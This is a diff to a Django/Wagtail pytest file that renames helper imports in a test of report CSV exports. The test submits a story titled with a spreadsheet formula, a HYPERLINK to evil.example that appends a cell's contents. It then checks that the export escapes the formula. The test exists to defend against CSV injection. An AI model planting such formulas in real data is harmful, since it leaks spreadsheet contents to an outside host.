@@ -9,10 +9,10 @@ import pytest
 from django.urls import reverse
 
 from home.models import User
-from stories import domain
+from stories import receiving
 from tests.factories import SmallSite
 from tests.stories.forms import story
-from tests.stories.review import act, signed_in
+from tests.stories.review import publish, signed_in
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -20,8 +20,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 @pytest.mark.parametrize("report", ["workflow", "workflow_tasks", "site_history", "aging_pages"])
 def test_a_title_is_text(site: SmallSite, editor: User, reviewer: User, report: str) -> None:
     for title in (FORMULA, "Another"):
-        page = domain.submit(story(title=title))[0].page
-        act(signed_in(reviewer), page, "approve")
+        page = receiving.submit(story(title=title))[0].page
+        publish(signed_in(reviewer), page)
     response = signed_in(editor).get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
     cells = {cell for row in csv.reader(io.StringIO(response.getvalue().decode())) for cell in row}
     assert {f"'{FORMULA}", "Another"} <= cells
